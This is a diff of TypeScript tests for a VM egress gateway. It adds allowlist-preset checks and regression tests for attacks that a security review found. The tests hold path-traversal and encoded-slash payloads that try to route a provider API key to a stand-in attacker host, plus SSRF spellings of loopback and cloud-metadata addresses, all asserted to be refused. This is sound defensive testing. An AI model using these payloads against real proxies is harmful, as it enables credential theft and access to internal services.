@@ -63,6 +63,14 @@ test('the decision on a name follows the mode and the allowlist', () => {
   assert.equal(decideName(allow, '93.184.216.34').allowed, false);
   assert.equal(decideName({ mode: 'none', allow: ['api.example.com'] }, 'api.example.com').allowed, false);
   assert.equal(decideName({ mode: 'public', allow: [] }, 'anything.example').allowed, true);
+  // A preset is one entry, expanded when the gateway decides, and named with the host in the log's reason.
+  const presets = { mode: 'allowlist' as const, allow: ['@github', '@npm'] };
+  assert.deepEqual(decideName(presets, 'codeload.github.com'), { allowed: true, reason: 'allowlist @github (codeload.github.com)' });
+  assert.equal(decideName(presets, 'registry.npmjs.org').allowed, true);
+  assert.equal(decideName(presets, 'gist.github.com').allowed, false);
+  assert.equal(decideName({ mode: 'allowlist', allow: ['constructor'] }, 'x.example').allowed, false);
+  assert.equal(policyProblem({ mode: 'allowlist', allow: ['@debian', '@pypi', '@crates', '@go'] }), null);
+  assert.match(policyProblem({ mode: 'allowlist', allow: ['@nope'] })?.message ?? '', /not a preset \(@debian, @npm/);
 });
 
 test('the deny list holds every range of the policy, IPv4 inside IPv6 included, and the host itself', () => {
@@ -73,6 +81,10 @@ test('the deny list holds every range of the policy, IPv4 inside IPv6 included, 
   for (const addr of ['93.184.216.34', '1.1.1.1', '2606:4700:4700::1111', '172.32.0.1', '100.128.0.1']) assert.equal(deny.reason(addr), null, addr);
   for (const own of Object.values(os.networkInterfaces()).flatMap((l) => l ?? [])) assert.ok(deny.reason(own.address), `own ${own.address}`);
   assert.equal(embeddedV4('::ffff:10.0.0.1'), '10.0.0.1');
+  assert.equal(canonicalIp('0:0:0:0:0:ffff:a9fe:a9fe'), '169.254.169.254');
+  assert.equal(canonicalIp('[2001:0DB8:0:0:1:0:0:1]'), '2001:db8::1:0:0:1');
+  assert.equal(canonicalIp('fe80::1%eth0'), null, 'a zone id is not a literal the gateway reaches');
+  assert.equal(canonicalIp('127.1'), null, 'not a literal: a name, resolved and then judged by its address');
 });
 
 test('pins and provider settings are checked when read', () => {
@@ -164,10 +176,10 @@ const setPolicy = (mode: 'none' | 'allowlist' | 'public', allow: string[]) =>
   db.query('UPDATE vms SET egress = $2 WHERE vm_id = $1', [vmId, JSON.stringify({ mode, allow })]);
 
 /** One raw exchange on the VM's gateway socket: what a guest program sends through its proxy. */
-function exchange(request: string, ms = 5000): Promise<{ text: string; elapsed: number }> {
+function exchange(request: string, ms = 5000, at = sock): Promise<{ text: string; elapsed: number }> {
   const t0 = Date.now();
   return new Promise((resolve, reject) => {
-    const s = net.connect(sock);
+    const s = net.connect(at);
     let text = '';
     s.on('data', (c) => (text += c.toString()));
     s.on('end', () => resolve({ text, elapsed: Date.now() - t0 }));
@@ -178,10 +190,10 @@ function exchange(request: string, ms = 5000): Promise<{ text: string; elapsed: 
 }
 
 /** A CONNECT tunnel, then one HTTP request inside it. */
-async function tunnel(hostPort: string): Promise<{ status: number; body: string; elapsed: number }> {
+async function tunnel(hostPort: string, at = sock): Promise<{ status: number; body: string; elapsed: number }> {
   const t0 = Date.now();
   return new Promise((resolve, reject) => {
-    const s = net.connect(sock);
+    const s = net.connect(at);
     let buf = '';
     let open = false;
     s.on('data', (c) => {
@@ -309,3 +321,169 @@ async function until(fn: () => Promise<boolean>, ms = 5000): Promise<void> {
     await new Promise((r) => setTimeout(r, 20));
   }
 }
+
+// ---- attacks a security review of the gateway found; each was answered wrongly before its fix ----
+
+/** A server that must never hear from the gateway: what it receives is what leaked. */
+async function listening(handler: http.RequestListener): Promise<{ server: http.Server; port: number }> {
+  const server = http.createServer(handler);
+  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
+  return { server, port: (server.address() as net.AddressInfo).port };
+}
+
+/** A second gateway on the same VM, with other settings, on a socket of its own. */
+async function otherGateway(name: string, deps: Partial<ConstructorParameters<typeof EgressGateway>[0]>): Promise<{ gw: EgressGateway; at: string }> {
+  const gw = new EgressGateway({ db, credentials, providerUrls: { anthropic: `http://anthropic.test:${providerPort}/base`, openai: 'http://openai.test:1', google: 'http://google.test:1' }, pins: parsePins('allowed.test=127.0.0.1,anthropic.test=127.0.0.1'), log, ...deps });
+  const at = path.join(dir, `${name}.sock`);
+  await gw.attach(vmId, at);
+  return { gw, at };
+}
+
+/** A CONNECT that stays open once established: its socket, or the status it was refused with. */
+function openTunnel(hostPort: string, at: string): Promise<{ status: number; socket: net.Socket; text: string }> {
+  return new Promise((resolve, reject) => {
+    const s = net.connect(at);
+    let buf = '';
+    s.on('data', (c) => {
+      buf += c.toString();
+      if (buf.includes('\r\n\r\n')) resolve({ status: Number(buf.slice(9, 12)), socket: s, text: buf });
+    });
+    s.on('error', reject);
+    s.write(`CONNECT ${hostPort} HTTP/1.1\r\nhost: ${hostPort}\r\n\r\n`);
+  });
+}
+
+test('attack: a brokered path cannot carry the real key to another host (//host, backslash, dot segments, encoded forms)', async () => {
+  const heard: string[] = [];
+  const attacker = await listening((req, res) => (heard.push(`${req.headers.host} ${req.url} ${req.headers['x-api-key']}`), res.end('got it')));
+  const { gw, at } = await otherGateway('attack-path', { pins: parsePins(`allowed.test=127.0.0.1,anthropic.test=127.0.0.1,attacker.test=127.0.0.1`) });
+  try {
+    await setPolicy('public', []);
+    await credentials.apply(vmId, { ANTHROPIC_API_KEY: 'sk-ant-must-not-leak' }, async () => []);
+    const seenBefore = seenByProvider.length;
+    const target = `attacker.test:${attacker.port}`;
+    for (const rest of [`//${target}/x`, `/%2f%2f${target}/x`, `/%2F${target}/x`, `/v1/../../x`, `/v1/%2e%2e/%2e%2e/x`, `/v1/%2E%2E/x`, `/v1/./x`, `/v1/%5c${target}/x`]) {
+      const r = await exchange(`POST /providers/anthropic${rest} HTTP/1.1\r\nhost: gw\r\ncontent-length: 2\r\nconnection: close\r\n\r\n{}`, 5000, at);
+      assert.match(r.text, /^HTTP\/1\.1 400/, rest);
+      assert.match(r.text, /may not hold/, rest);
+    }
+    const viaProxy = await exchange(
+      `POST http://gateway.agentvm.internal:3128/providers/anthropic//${target}/x HTTP/1.1\r\nhost: gateway.agentvm.internal:3128\r\ncontent-length: 2\r\nconnection: close\r\n\r\n{}`,
+      5000,
+      at,
+    );
+    assert.match(viaProxy.text, /^HTTP\/1\.1 400/);
+    assert.deepEqual(heard, [], 'the attacker heard nothing');
+    assert.equal(seenByProvider.length, seenBefore, 'nothing went to the provider either');
+    // The same request on a path that stays under the provider's prefix goes through.
+    const ok = await exchange(`POST /providers/anthropic/v1/messages HTTP/1.1\r\nhost: gw\r\ncontent-length: 2\r\nconnection: close\r\n\r\n{}`, 5000, at);
+    assert.match(ok.text, /^HTTP\/1\.1 200/);
+    assert.equal(seenByProvider.at(-1)!.path, '/base/v1/messages');
+  } finally {
+    await gw.close();
+    attacker.server.close();
+  }
+});
+
+test('attack: brokered requests carry only the methods the providers use (GET, POST, DELETE)', async () => {
+  await setPolicy('allowlist', ['api.anthropic.com']);
+  const seenBefore = seenByProvider.length;
+  for (const method of ['TRACE', 'PUT', 'PATCH', 'OPTIONS']) {
+    const r = await exchange(`${method} /providers/anthropic/v1/messages HTTP/1.1\r\nhost: gw\r\ncontent-length: 0\r\nconnection: close\r\n\r\n`);
+    assert.match(r.text, /^HTTP\/1\.1 405/, method);
+  }
+  assert.equal(seenByProvider.length, seenBefore);
+  const get = await exchange(`GET /providers/anthropic/v1/models HTTP/1.1\r\nhost: gw\r\nconnection: close\r\n\r\n`);
+  assert.match(get.text, /^HTTP\/1\.1 200/);
+});
+
+test('attack: in public mode no spelling of a loopback, metadata or link-local address gets through', async () => {
+  await setPolicy('public', []);
+  const heard: string[] = [];
+  const inside = await listening((req, res) => (heard.push(req.url!), res.end('inside')));
+  try {
+    const p = inside.port;
+    const spellings = [
+      `[0:0:0:0:0:ffff:169.254.169.254]:80`,
+      `[0::ffff:127.0.0.1]:${p}`,
+      `[::ffff:0:7f00:1]:${p}`,
+      `[::7f00:1]:${p}`,
+      `[::127.0.0.1]:${p}`,
+      `[0:0:0:0:0:ffff:7f00:0001]:${p}`,
+      `[64:ff9b::7f00:1]:${p}`,
+      `[fe80::1%25lo]:${p}`,
+      `[fe80::1%lo]:${p}`,
+    ];
+    for (const target of spellings) {
+      const r = await tunnel(target);
+      assert.equal(r.status, 403, target);
+      const host = target.replace(/:\d+$/, '');
+      const plain = await exchange(`GET http://${host}:${p}/plain HTTP/1.1\r\nhost: x\r\nconnection: close\r\n\r\n`);
+      assert.match(plain.text, /^HTTP\/1\.1 (403|400)/, `absolute-form ${target}`);
+    }
+    assert.deepEqual(heard, [], 'nothing reached the host');
+    const log = (await egressStore.listLog(db, vmId, spellings.length * 2)).data;
+    assert.ok(log.some((e) => e.host === '169.254.169.254' && /link-local/.test(e.reason)), 'the log names the address in its canonical form');
+  } finally {
+    inside.server.close();
+  }
+});
+
+test("attack: the operator's provider URL, an IP literal, is reached only through the brokered path", async () => {
+  const { gw, at } = await otherGateway('ip-provider', {
+    providerUrls: { anthropic: `http://127.0.0.1:${providerPort}/base`, openai: 'http://openai.test:1', google: 'http://google.test:1' },
+    pins: new Map(),
+  });
+  try {
+    await credentials.apply(vmId, { ANTHROPIC_API_KEY: 'sk-ant-ip' }, async () => []);
+    await setPolicy('allowlist', ['api.anthropic.com']);
+    const ok = await exchange(`POST /providers/anthropic/v1/messages HTTP/1.1\r\nhost: gw\r\ncontent-length: 2\r\nconnection: close\r\n\r\n{}`, 5000, at);
+    assert.match(ok.text, /^HTTP\/1\.1 200/);
+    assert.equal(seenByProvider.at(-1)!.headers['x-api-key'], 'sk-ant-ip');
+    const row = (await egressStore.listLog(db, vmId, 1)).data[0];
+    assert.equal(row.host, 'api.anthropic.com', 'logged by the name the policy uses');
+    await setPolicy('public', []);
+    assert.equal((await tunnel(`127.0.0.1:${providerPort}`, at)).status, 403);
+    await setPolicy('allowlist', []);
+    assert.match((await exchange(`POST /providers/anthropic/v1/messages HTTP/1.1\r\nhost: gw\r\ncontent-length: 2\r\nconnection: close\r\n\r\n{}`, 5000, at)).text, /^HTTP\/1\.1 403/);
+  } finally {
+    await gw.close();
+  }
+});
+
+test('attack: a VM cannot hold more than its connections at the gateway, open more than its rate, or keep an idle one', async () => {
+  await setPolicy('allowlist', ['allowed.test']);
+  let now = 1_000_000;
+  const { gw, at } = await otherGateway('limits', { limits: { maxOpen: 2, newPerSecond: 100, idleMs: 60_000 } });
+  const { gw: rateGw, at: rateAt } = await otherGateway('rate', { limits: { newPerSecond: 3 }, now: () => now });
+  const { gw: idleGw, at: idleAt } = await otherGateway('idle', { limits: { idleMs: 200 } });
+  try {
+    const a = await openTunnel(`allowed.test:${upstreamPort}`, at);
+    const b = await openTunnel(`allowed.test:${upstreamPort}`, at);
+    assert.deepEqual([a.status, b.status], [200, 200]);
+    const third = await openTunnel(`allowed.test:${upstreamPort}`, at);
+    assert.equal(third.status, 429);
+    assert.match(third.text, /2 connections open/);
+    a.socket.destroy();
+    // Once the gateway has seen the close, a new one is admitted.
+    let c = third;
+    await until(async () => {
+      if (c.status !== 200) c = await openTunnel(`allowed.test:${upstreamPort}`, at);
+      return c.status === 200;
+    });
+    b.socket.destroy();
+    c.socket.destroy();
+    const burst = [];
+    for (let i = 0; i < 4; i++) burst.push(await exchange(`GET http://allowed.test:${upstreamPort}/b HTTP/1.1\r\nhost: allowed.test\r\nconnection: close\r\n\r\n`, 5000, rateAt));
+    assert.deepEqual(burst.map((r) => r.text.slice(9, 12)), ['200', '200', '200', '429'], 'three new connections a second, then 429');
+    now += 1000;
+    assert.match((await exchange(`GET http://allowed.test:${upstreamPort}/b HTTP/1.1\r\nhost: allowed.test\r\nconnection: close\r\n\r\n`, 5000, rateAt)).text, /^HTTP\/1\.1 200/);
+    const idle = await openTunnel(`allowed.test:${upstreamPort}`, idleAt);
+    assert.equal(idle.status, 200);
+    await new Promise((r) => idle.socket.once('close', r));
+  } finally {
+    await gw.close();
+    await rateGw.close();
+    await idleGw.close();
+  }
+});
